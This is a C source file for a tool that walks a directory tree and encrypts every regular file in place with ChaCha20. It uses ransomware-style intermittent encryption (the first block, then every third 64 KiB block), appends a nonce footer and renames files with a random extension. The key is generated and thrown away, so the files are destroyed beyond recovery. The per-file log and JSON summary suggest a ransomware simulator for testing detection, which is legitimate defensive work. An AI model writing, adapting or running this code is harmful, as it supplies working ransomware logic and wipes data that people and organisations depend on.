/* chacha-bfs.c ROOT LOG: breadth-first readdir walk; each regular file gets its first 64 KiB
 * and then one 64 KiB block in three encrypted in place with ChaCha20 (libcrypto), a 40-byte
 * footer appended (magic, nonce) and the name extended with a per-run random extension.
 * DESTROYS the files under ROOT. Build: cc -O2 chacha-bfs.c -lcrypto -o chacha-bfs */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/rand.h>

#define BLK 65536

static int logfd = -1;
static unsigned char key[32];
static char ext[8];

static void logline(const char *path)
{
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	char buf[8192];
	int n = snprintf(buf, sizeof(buf), "%lld %d enc ", (long long)ts.tv_sec * 1000000000LL + ts.tv_nsec, (int)getpid());
	for (const char *p = path; *p && n < (int)sizeof(buf) - 4; p++) {
		if (*p == '\\' || *p == '\n') {
			buf[n++] = '\\';
			buf[n++] = *p == '\n' ? 'n' : '\\';
		} else {
			buf[n++] = *p;
		}
	}
	buf[n++] = '\n';
	if (write(logfd, buf, (size_t)n) < 0)
		perror("log");
}

static int lock_file(const char *path)
{
	unsigned char iv[16], *buf = malloc(BLK);
	int fd = open(path, O_RDWR | O_NOFOLLOW | O_CLOEXEC), rc = -1;
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	struct stat st;
	if (!buf || fd < 0 || !c || fstat(fd, &st) < 0)
		goto out;
	RAND_bytes(iv, sizeof(iv));
	if (EVP_EncryptInit_ex(c, EVP_chacha20(), NULL, key, iv) != 1)
		goto out;
	for (off_t off = 0, i = 0; off < st.st_size; off += BLK, i++) {
		if (i > 0 && i % 3 != 0)
			continue;
		ssize_t n = pread(fd, buf, BLK, off);
		int outl = 0;
		if (n <= 0 || EVP_EncryptUpdate(c, buf, &outl, buf, (int)n) != 1 || pwrite(fd, buf, (size_t)n, off) != n)
			goto out;
	}
	unsigned char foot[40] = "CCBFS1\0\0";
	memcpy(foot + 8, iv, 16);
	if (pwrite(fd, foot, sizeof(foot), st.st_size) != (ssize_t)sizeof(foot))
		goto out;
	rc = 0;
out:
	if (fd >= 0)
		close(fd);
	EVP_CIPHER_CTX_free(c);
	free(buf);
	if (rc == 0) {
		char *dst;
		if (asprintf(&dst, "%s.%s", path, ext) > 0) {
			rc = rename(path, dst);
			free(dst);
		}
	}
	return rc;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: %s ROOT LOG\n", argv[0]);
		return 2;
	}
	logfd = open(argv[2], O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (logfd < 0 || RAND_bytes(key, sizeof(key)) != 1)
		return 1;
	unsigned char r[6];
	RAND_bytes(r, sizeof(r));
	for (int i = 0; i < 6; i++)
		ext[i] = (char)('a' + r[i] % 26);
	/* breadth first: a queue of directories */
	size_t cap = 64, head = 0, tail = 0, done = 0;
	char **q = malloc(cap * sizeof(*q));
	q[tail++] = strdup(argv[1]);
	while (head < tail) {
		char *dir = q[head++];
		DIR *d = opendir(dir);
		struct dirent *de;
		while (d && (de = readdir(d))) {
			size_t nl = strlen(de->d_name), el = strlen(ext);
			if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, "..") ||
			    (nl > el && de->d_name[nl - el - 1] == '.' && !strcmp(de->d_name + nl - el, ext)))
				continue; /* ours already */
			char *p;
			if (asprintf(&p, "%s/%s", dir, de->d_name) < 0)
				continue;
			struct stat st;
			if (lstat(p, &st) == 0 && S_ISDIR(st.st_mode)) {
				if (tail == cap)
					q = realloc(q, (cap *= 2) * sizeof(*q));
				q[tail++] = p;
				continue;
			}
			if (lstat(p, &st) == 0 && S_ISREG(st.st_mode) && st.st_size > 0) {
				logline(p);
				if (lock_file(p) == 0)
					done++;
			}
			free(p);
		}
		if (d)
			closedir(d);
		free(dir);
	}
	printf("{\"mode\":\"chacha-bfs\",\"files_done\":%zu,\"ext\":\"%s\"}\n", done, ext);
	return 0;
}
